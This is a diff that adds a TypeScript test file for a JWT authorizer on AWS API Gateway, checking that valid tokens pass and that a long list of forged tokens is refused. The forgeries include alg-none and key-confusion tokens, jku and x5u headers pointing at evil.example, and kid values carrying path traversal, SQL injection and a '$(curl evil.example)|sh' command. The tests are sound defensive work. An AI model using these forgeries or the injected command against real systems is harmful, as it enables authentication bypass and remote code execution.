@@ -1,0 +1,630 @@
+import { createPublicKey, generateKeyPairSync } from 'node:crypto'
+import type { APIGatewayRequestAuthorizerEventV2 } from 'aws-lambda'
+import { calculateJwkThumbprint } from 'jose'
+import { beforeAll, describe, expect, it } from 'vitest'
+import { createRuntime } from '../../functions/adapters/runtime.js'
+import { type Authorizer, createAuthorizer } from '../../functions/authorizer/authorizer.js'
+import { loadConfig } from '../../functions/config.js'
+import { issueAccessToken } from '../../functions/core/access-token.js'
+import { parseClients } from '../../functions/core/clients.js'
+import { InvalidToken } from '../../functions/core/errors.js'
+import type { PublicJwk, Session, Signer, User } from '../../functions/core/ports.js'
+import { FakeClock } from '../support/clock.js'
+import { NATIVE, testSigner } from '../support/harness.js'
+import { recordSecret } from '../support/secrets.js'
+import { b64, mint, signHs256, signRs256, standardClaims } from '../support/tokens.js'
+
+const ISSUER = 'https://auth.example.test'
+const AUDIENCE = NATIVE.audience
+
+let signer: Signer
+let clock: FakeClock
+let authorizer: Authorizer
+let ourKid: string
+let ourJwk: PublicJwk
+let good: string
+
+const claims = (overrides: Record<string, unknown> = {}) => ({
+  ...standardClaims(ISSUER, AUDIENCE, clock.now()),
+  ...overrides,
+})
+const without = (name: string) => {
+  const all: Record<string, unknown> = claims()
+  delete all[name]
+  return all
+}
+
+function build(env: Record<string, string> = {}): Authorizer {
+  const config = loadConfig({
+    TABLE_NAME: 'not-used-without-strict-mode',
+    ISSUER,
+    CLIENTS: JSON.stringify([NATIVE]),
+    SIGNER: 'local',
+    ...env,
+  })
+  return createAuthorizer(createRuntime(config, { clock, signer }))
+}
+
+const event = (authorization?: string): APIGatewayRequestAuthorizerEventV2 =>
+  ({
+    version: '2.0',
+    type: 'REQUEST',
+    routeArn: 'arn:aws:execute-api:eu-west-1:123456789012:api/$default/GET/me',
+    identitySource: authorization === undefined ? [] : [authorization],
+    routeKey: 'GET /me',
+    rawPath: '/me',
+    rawQueryString: '',
+    cookies: [],
+    headers: authorization === undefined ? {} : { authorization },
+    requestContext: {} as APIGatewayRequestAuthorizerEventV2['requestContext'],
+  }) as APIGatewayRequestAuthorizerEventV2
+
+/** Why the authorizer refused, from the InvalidToken it threw (the logs' reason). */
+async function refusal(token: string): Promise<string> {
+  recordSecret(token)
+  const denied = await authorizer.http(event(`Bearer ${token}`))
+  expect(denied).toEqual({ isAuthorized: false })
+  const error = await authorizer.authorize(`Bearer ${token}`).then(
+    () => undefined,
+    (e: unknown) => e,
+  )
+  expect(error).toBeInstanceOf(InvalidToken)
+  return (error as InvalidToken).detail as string
+}
+
+const attacker = generateKeyPairSync('rsa', { modulusLength: 2048 })
+const attackerJwk = attacker.publicKey.export({ format: 'jwk' })
+
+beforeAll(async () => {
+  signer = await testSigner()
+  clock = new FakeClock()
+  authorizer = build()
+  ourKid = await signer.keyId()
+  ourJwk = (await signer.publicKeys())[0] as PublicJwk
+  good = (await mint(signer, claims())).token
+})
+
+describe('the authorizer accepts our tokens', () => {
+  it('allows a token issued by the service and passes sub, sid, client_id, scope and roles', async () => {
+    const user: User = {
+      sub: 'b7f1f6a2-3c4d-4e5f-8a9b-0c1d2e3f4a5b',
+      username: 'bob',
+      passwordHash: 'unused',
+      roles: ['admin', 'reader'],
+      status: 'active',
+      createdAt: clock.now(),
+    }
+    const session = { sid: 'c2Vzc2lvbi1pZC05ODc2NQ' } as Session
+    const client = parseClients([NATIVE]).get(NATIVE.client_id)
+    if (!client) throw new Error('no client')
+    const issued = await issueAccessToken(
+      signer,
+      { issuer: ISSUER, backdateSeconds: 5 },
+      { user, session, client, scope: 'api', now: clock.now() },
+    )
+    recordSecret(issued.token)
+    const result = await authorizer.http(event(`Bearer ${issued.token}`))
+    expect(result.isAuthorized).toBe(true)
+    expect(result.context).toMatchObject({
+      sub: user.sub,
+      sid: session.sid,
+      client_id: NATIVE.client_id,
+      scope: 'api',
+      roles: ['admin', 'reader'],
+    })
+  })
+
+  it('takes the bearer scheme in any case and the token from identitySource alone', async () => {
+    expect((await authorizer.http(event(`bearer ${good}`))).isAuthorized).toBe(true)
+    const sourceOnly = { ...event(), identitySource: [`BEARER ${good}`] }
+    expect((await authorizer.http(sourceOnly)).isAuthorized).toBe(true)
+  })
+
+  it('accepts exp, nbf and iat up to the allowed skew (30 s by default)', async () => {
+    const now = Math.floor(clock.now() / 1000)
+    for (const edge of [{ exp: now - 29 }, { nbf: now + 29 }, { iat: now + 29, nbf: now + 29 }]) {
+      const { token } = await mint(signer, claims(edge))
+      expect(
+        (await authorizer.http(event(`Bearer ${token}`))).isAuthorized,
+        JSON.stringify(edge),
+      ).toBe(true)
+    }
+  })
+
+  it('accepts typ application/at+jwt (RFC 9068 §4)', async () => {
+    const { token } = await mint(signer, claims(), { typ: 'application/at+jwt' })
+    expect((await authorizer.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
+  })
+
+  it('expires a token at the authorizer when the injected clock passes exp plus the skew', async () => {
+    const local = new FakeClock()
+    const shortLived = await mint(signer, standardClaims(ISSUER, AUDIENCE, local.now()))
+    const saved = clock
+    clock = local
+    try {
+      const guarded = build()
+      expect((await guarded.http(event(`Bearer ${shortLived.token}`))).isAuthorized).toBe(true)
+      local.advance(900 + 29)
+      expect((await guarded.http(event(`Bearer ${shortLived.token}`))).isAuthorized).toBe(true)
+      local.advance(1)
+      expect((await guarded.http(event(`Bearer ${shortLived.token}`))).isAuthorized).toBe(false)
+    } finally {
+      clock = saved
+    }
+  })
+
+  it('honours AUTHORIZER_SKEW_SECONDS', async () => {
+    const strictClock = build({ AUTHORIZER_SKEW_SECONDS: '0' })
+    const now = Math.floor(clock.now() / 1000)
+    const { token } = await mint(signer, claims({ nbf: now + 1 }))
+    expect((await strictClock.http(event(`Bearer ${token}`))).isAuthorized).toBe(false)
+    expect((await authorizer.http(event(`Bearer ${token}`))).isAuthorized).toBe(true)
+  })
+
+  it('accepts only AUTHORIZER_AUDIENCES when it is set', async () => {
+    const narrowed = build({ AUTHORIZER_AUDIENCES: 'https://orders.api, https://billing.api' })
+    const forOrders = await mint(signer, claims({ aud: 'https://orders.api' }))
+    expect((await narrowed.http(event(`Bearer ${forOrders.token}`))).isAuthorized).toBe(true)
+    expect((await narrowed.http(event(`Bearer ${good}`))).isAuthorized).toBe(false)
+    expect((await authorizer.http(event(`Bearer ${forOrders.token}`))).isAuthorized).toBe(false)
+  })
+
+  it('refuses to start with a malformed AUTHORIZER_* setting, naming it', () => {
+    expect(() => build({ AUTHORIZER_STRICT: 'yes' })).toThrow(/AUTHORIZER_STRICT/)
+    expect(() => build({ AUTHORIZER_SKEW_SECONDS: '-1' })).toThrow(/AUTHORIZER_SKEW_SECONDS/)
+    expect(() => build({ AUTHORIZER_MAX_TOKEN_BYTES: '10' })).toThrow(/AUTHORIZER_MAX_TOKEN_BYTES/)
+  })
+
+  it('answers the REST variant with an Allow policy for the stage and string-only context', async () => {
+    const result = await authorizer.rest({
+      type: 'TOKEN',
+      authorizationToken: `Bearer ${good}`,
+      methodArn: 'arn:aws:execute-api:eu-west-1:123456789012:abc123/prod/GET/orders/7',
+    })
+    expect(result.principalId).toBe(claims().sub)
+    expect(result.policyDocument.Statement).toEqual([
+      {
+        Action: 'execute-api:Invoke',
+        Effect: 'Allow',
+        Resource: 'arn:aws:execute-api:eu-west-1:123456789012:abc123/prod/*',
+      },
+    ])
+    expect(result.context).toMatchObject({
+      roles: 'reader',
+      scope: 'openid api',
+      sid: claims().sid,
+    })
+    for (const value of Object.values(result.context ?? {})) {
+      expect(['string', 'number', 'boolean']).toContain(typeof value)
+    }
+  })
+
+  it('makes the REST variant fail with exactly "Unauthorized" (API Gateway answers 401)', async () => {
+    await expect(
+      authorizer.rest({
+        type: 'TOKEN',
+        authorizationToken: 'Bearer nope',
+        methodArn: 'arn:x/y/GET/z',
+      }),
+    ).rejects.toThrow(/^Unauthorized$/)
+  })
+})
+
+describe('the authorizer refuses every forged token', () => {
+  const none = (alg: string, signature: string) => async () =>
+    `${b64({ alg, typ: 'at+jwt', kid: ourKid })}.${b64(claims())}.${signature}`
+
+  const corpus: [string, () => Promise<string>, RegExp][] = [
+    ['alg "none" with no signature', none('none', ''), /compact JWS/],
+    ['alg "none" with a signature', none('none', 'c2ln'), /alg not allowed/],
+    ['alg "None"', none('None', 'c2ln'), /alg not allowed/],
+    ['alg "NONE"', none('NONE', 'c2ln'), /alg not allowed/],
+    ['alg "nOnE"', none('nOnE', 'c2ln'), /alg not allowed/],
+    [
+      'alg "none" keeping our valid signature',
+      async () => {
+        const [, payload, signature] = good.split('.')
+        return `${b64({ alg: 'none', typ: 'at+jwt', kid: ourKid })}.${payload}.${signature}`
+      },
+      /alg not allowed/,
+    ],
+    [
+      'alg missing',
+      async () => {
+        const [, payload, signature] = good.split('.')
+        return `${b64({ typ: 'at+jwt', kid: ourKid })}.${payload}.${signature}`
+      },
+      /alg not allowed/,
+    ],
+    [
+      'HS256 keyed with our public key as PEM',
+      async () => {
+        const pem = createPublicKey({ key: { ...ourJwk }, format: 'jwk' }).export({
+          type: 'spki',
+          format: 'pem',
+        })
+        return signHs256(String(pem), { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims())
+      },
+      /alg not allowed/,
+    ],
+    [
+      'HS256 keyed with our public key as JWK',
+      async () =>
+        signHs256(JSON.stringify(ourJwk), { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims()),
+      /alg not allowed/,
+    ],
+    [
+      'HS256 keyed with our public key as DER',
+      async () => {
+        const der = createPublicKey({ key: { ...ourJwk }, format: 'jwk' }).export({
+          type: 'spki',
+          format: 'der',
+        })
+        return signHs256(der, { alg: 'HS256', typ: 'at+jwt', kid: ourKid }, claims())
+      },
+      /alg not allowed/,
+    ],
+    [
+      'HS512',
+      async () => signHs256('k', { alg: 'HS512', typ: 'at+jwt', kid: ourKid }, claims()),
+      /alg not allowed/,
+    ],
+    [
+      'alg RS512 (not on the allow-list)',
+      async () =>
+        signRs256(attacker.privateKey, { alg: 'RS512', typ: 'at+jwt', kid: ourKid }, claims()),
+      /alg not allowed/,
+    ],
+    [
+      'alg PS256 (not on the allow-list)',
+      async () =>
+        signRs256(attacker.privateKey, { alg: 'PS256', typ: 'at+jwt', kid: ourKid }, claims()),
+      /alg not allowed/,
+    ],
+    [
+      'alg ES256 on our RSA key (alg must match the key)',
+      async () =>
+        signRs256(attacker.privateKey, { alg: 'ES256', typ: 'at+jwt', kid: ourKid }, claims()),
+      /alg does not match the key/,
+    ],
+    [
+      "an embedded jwk header with the attacker's key",
+      async () => {
+        const kid = await calculateJwkThumbprint({
+          kty: 'RSA',
+          n: String(attackerJwk.n),
+          e: String(attackerJwk.e),
+        })
+        return signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid, jwk: attackerJwk },
+          claims(),
+        )
+      },
+      /carries jwk/,
+    ],
+    [
+      'an embedded jwk header under our kid',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: ourKid, jwk: attackerJwk },
+          claims(),
+        ),
+      /carries jwk/,
+    ],
+    [
+      "a jku header pointing at the attacker's JWKS",
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          {
+            alg: 'RS256',
+            typ: 'at+jwt',
+            kid: 'attacker',
+            jku: 'https://evil.example/jwks.json',
+          },
+          claims(),
+        ),
+      /carries jku/,
+    ],
+    [
+      'an x5u header',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          {
+            alg: 'RS256',
+            typ: 'at+jwt',
+            kid: 'attacker',
+            x5u: 'https://evil.example/cert.pem',
+          },
+          claims(),
+        ),
+      /carries x5u/,
+    ],
+    [
+      'an x5c header',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: ourKid, x5c: ['MIIB'] },
+          claims(),
+        ),
+      /carries x5c/,
+    ],
+    [
+      'a kid carrying path traversal',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: '../../../../dev/null' },
+          claims(),
+        ),
+      /kid missing or malformed/,
+    ],
+    [
+      'a kid naming the local key file',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: '.local/keys/signing-key.pem' },
+          claims(),
+        ),
+      /kid missing or malformed/,
+    ],
+    [
+      'a kid carrying SQL injection',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: "x' OR '1'='1" },
+          claims(),
+        ),
+      /kid missing or malformed/,
+    ],
+    [
+      'a kid carrying a command',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: '$(curl evil.example)|sh' },
+          claims(),
+        ),
+      /kid missing or malformed/,
+    ],
+    [
+      'a kid of __proto__',
+      async () =>
+        signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: '__proto__' }, claims()),
+      /unknown kid/,
+    ],
+    [
+      'a kid that is not a string',
+      async () =>
+        signRs256(
+          attacker.privateKey,
+          { alg: 'RS256', typ: 'at+jwt', kid: { $ne: null } },
+          claims(),
+        ),
+      /kid missing or malformed/,
+    ],
+    [
+      'no kid',
+      async () => signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt' }, claims()),
+      /kid missing or malformed/,
+    ],
+    [
+      "the attacker's key reusing our kid",
+      async () =>
+        signRs256(attacker.privateKey, { alg: 'RS256', typ: 'at+jwt', kid: ourKid }, claims()),
+      /bad signature/,
+    ],
+    ['a truncated signature', async () => good.slice(0, -10), /bad signature/],
+    [
+      'a signature with one bit flipped',
+      async () => {
+        const [h, p, s] = good.split('.') as [string, string, string]
+        const bytes = Buffer.from(s, 'base64url')
+        bytes[bytes.length - 1] = (bytes[bytes.length - 1] as number) ^ 1
+        return `${h}.${p}.${bytes.toString('base64url')}`
+      },
+      /bad signature/,
+    ],
+    [
+      'the signature of another token',
+      async () => {
+        const other = await mint(signer, claims({ jti: 'another-token' }))
+        const [h, p] = good.split('.')
+        return `${h}.${p}.${other.token.split('.')[2]}`
+      },
+      /bad signature/,
+    ],
+    [
+      'a payload swapped under a valid signature',
+      async () => {
+        const [h, , s] = good.split('.')
+        return `${h}.${b64(claims({ sub: 'someone-else', roles: ['admin'] }))}.${s}`
+      },
+      /bad signature/,
+    ],
+    [
+      'a header swapped under a valid signature',
+      async () => {
+        const [, p, s] = good.split('.')
+        return `${b64({ alg: 'RS256', kid: ourKid, typ: 'at+jwt', x: 1 })}.${p}.${s}`
+      },
+      /bad signature/,
+    ],
+    ['typ missing', async () => (await mint(signer, claims(), { typ: undefined })).token, /typ/],
+    ['typ JWT', async () => (await mint(signer, claims(), { typ: 'JWT' })).token, /typ/],
+    [
+      'typ of an ID token pretender (id_token+jwt)',
+      async () => (await mint(signer, claims(), { typ: 'id_token+jwt' })).token,
+      /typ/,
+    ],
+    [
+      'a wrong iss',
+      async () => (await mint(signer, claims({ iss: 'https://evil.example' }))).token,
+      /iss/,
+    ],
+    [
+      'iss with a trailing slash',
+      async () => (await mint(signer, claims({ iss: `${ISSUER}/` }))).token,
+      /iss/,
+    ],
+    [
+      'iss given as an array',
+      async () => (await mint(signer, claims({ iss: [ISSUER] }))).token,
+      /iss/,
+    ],
+    [
+      'a wrong aud',
+      async () => (await mint(signer, claims({ aud: 'https://other.api' }))).token,
+      /aud/,
+    ],
+    ['a missing aud', async () => (await mint(signer, without('aud'))).token, /aud/],
+    ['an empty aud array', async () => (await mint(signer, claims({ aud: [] }))).token, /aud/],
+    [
+      'exp in the past beyond the skew',
+      async () => (await mint(signer, claims({ exp: Math.floor(clock.now() / 1000) - 31 }))).token,
+      /expired/,
+    ],
+    [
+      'exp as a string',
+      async () =>
+        (await mint(signer, claims({ exp: String(Math.floor(clock.now() / 1000) + 900) }))).token,
+      /exp missing or not a number/,
+    ],
+    ['exp missing', async () => (await mint(signer, without('exp'))).token, /exp missing/],
+    [
+      'nbf in the future beyond the skew',
+      async () => (await mint(signer, claims({ nbf: Math.floor(clock.now() / 1000) + 31 }))).token,
+      /not yet valid/,
+    ],
+    [
+      'iat in the future beyond the skew',
+      async () => (await mint(signer, claims({ iat: Math.floor(clock.now() / 1000) + 31 }))).token,
+      /future/,
+    ],
+    ['iat missing', async () => (await mint(signer, without('iat'))).token, /iat missing/],
+    ['sub missing', async () => (await mint(signer, without('sub'))).token, /sub missing/],
+    ['sub empty', async () => (await mint(signer, claims({ sub: '' }))).token, /sub missing/],
+    ['jti missing', async () => (await mint(signer, without('jti'))).token, /jti missing/],
+    [
+      'client_id missing',
+      async () => (await mint(signer, without('client_id'))).token,
+      /client_id missing/,
+    ],
+    ['sid missing', async () => (await mint(signer, without('sid'))).token, /sid missing/],
+    [
+      'roles not an array',
+      async () => (await mint(signer, claims({ roles: 'admin' }))).token,
+      /roles/,
+    ],
+    [
+      'an unknown crit header',
+      async () =>
+        (
+          await mint(signer, claims(), {
+            crit: ['urn:example:must-understand'],
+            'urn:example:must-understand': true,
+          })
+        ).token,
+      /carries crit/,
+    ],
+    [
+      'crit naming a registered claim',
+      async () => (await mint(signer, claims(), { crit: ['exp'] })).token,
+      /carries crit/,
+    ],
+    [
+      'b64 false (unencoded payload)',
+      async () => (await mint(signer, claims(), { b64: false, crit: ['b64'] })).token,
+      /carries/,
+    ],
+    [
+      'JWS JSON serialization (flattened)',
+      async () => {
+        const [protectedHeader, payload, signature] = good.split('.')
+        return JSON.stringify({ protected: protectedHeader, payload, signature })
+      },
+      /compact JWS/,
+    ],
+    [
+      'JWS JSON serialization (general)',
+      async () => {
+        const [protectedHeader, payload, signature] = good.split('.')
+        return JSON.stringify({ payload, signatures: [{ protected: protectedHeader, signature }] })
+      },
+      /compact JWS/,
+    ],
+    [
+      'an oversized token (validly signed)',
+      async () => (await mint(signer, claims({ padding: 'x'.repeat(5000) }))).token,
+      /too large/,
+    ],
+    ['a token with four segments', async () => `${good}.${good.split('.')[2]}`, /compact JWS/],
+    [
+      'a JWE-shaped token (five segments)',
+      async () => 'eyJhbGciOiJSU0EtT0FFUCJ9.a.b.c.d',
+      /compact JWS/,
+    ],
+    [
+      'a header that is not JSON',
+      async () => `${b64('not json')}.${good.split('.')[1]}.c2ln`,
+      /header is not JSON/,
+    ],
+    [
+      'a header that is a JSON array',
+      async () => `${b64([1])}.${good.split('.')[1]}.c2ln`,
+      /not a JSON object/,
+    ],
+    [
+      'a payload that is not JSON',
+      async () => {
+        const { token } = await mint(signer, {})
+        const [h] = token.split('.')
+        const input = `${h}.${b64('{"sub":')}`
+        const sig = await signer.sign(new TextEncoder().encode(input))
+        return `${input}.${Buffer.from(sig).toString('base64url')}`
+      },
+      /payload is not JSON/,
+    ],
+    ['garbage', async () => 'garbage', /compact JWS/],
+    ['garbage with dots', async () => '...', /compact JWS/],
+    ['base64 with padding and plus signs', async () => 'a+b=.c/d=.e==', /compact JWS/],
+    ['non-ASCII', async () => 'é.é.é', /compact JWS/],
+  ]
+
+  it.each(corpus)('refuses %s', async (_name, forge, reason) => {
+    expect(await refusal(await forge())).toMatch(reason)
+  })
+
+  it.each([
+    ['no Authorization header', undefined, /no Authorization/],
+    ['an empty header', '', /no Authorization/],
+    ['the Basic scheme', `Basic ${Buffer.from('a:b').toString('base64')}`, /not a Bearer/],
+    ['Bearer with no token', 'Bearer', /not a Bearer/],
+    ['Bearer with two tokens', `Bearer ${'a.b.c'} ${'d.e.f'}`, /not a Bearer/],
+    ['a token without the scheme', 'a.b.c', /not a Bearer/],
+    ['a huge header', `Bearer ${'a'.repeat(100_000)}`, /too large/],
+  ])('refuses %s', async (_name, header, reason) => {
+    expect(await authorizer.http(event(header))).toEqual({ isAuthorized: false })
+    await expect(authorizer.authorize(header)).rejects.toSatisfy(
+      (error: unknown) => error instanceof InvalidToken && reason.test(error.detail ?? ''),
+    )
+  })
+
+  it('never echoes the presented token in what it returns', async () => {
+    const forged = signRs256(
+      attacker.privateKey,
+      { alg: 'RS256', typ: 'at+jwt', kid: ourKid },
+      claims(),
+    )
+    const error = await authorizer.authorize(`Bearer ${forged}`).catch((e: InvalidToken) => e)
+    expect(JSON.stringify({ ...error, message: (error as Error).message })).not.toContain(
+      forged.split('.')[2],
+    )
+  })
+})
